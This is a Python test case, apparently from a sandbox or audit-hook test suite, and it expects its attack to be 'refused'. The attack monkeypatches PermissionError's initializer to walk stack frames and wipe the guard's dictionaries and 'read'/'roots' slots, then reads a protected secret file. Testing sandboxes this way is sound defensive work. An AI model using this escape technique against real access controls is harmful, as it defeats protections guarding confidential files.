"""Gives the class of refusals an initializer of its own, which runs amid the hook and looks around there."""

EXPECTED = "refused"
import sys


def attack(aim):
    def look(self, *args):
        frame = sys._getframe(1)
        while frame is not None and "aim" not in frame.f_locals:
            for value in list(frame.f_locals.values()):
                owner = getattr(value, "__self__", value)
                if isinstance(owner, dict):
                    owner.clear()
                for name in getattr(type(owner), "__slots__", ()):
                    if "read" in name or "roots" in name:
                        setattr(owner, name, None)
            frame = frame.f_back

    try:
        open(aim["secret"])
    except PermissionError as error:
        for cls in type(error).__mro__[:2]:
            cls.__init__ = look
    try:
        open(aim["secret"])
    except BaseException:
        pass
    return open(aim["secret"]).read()
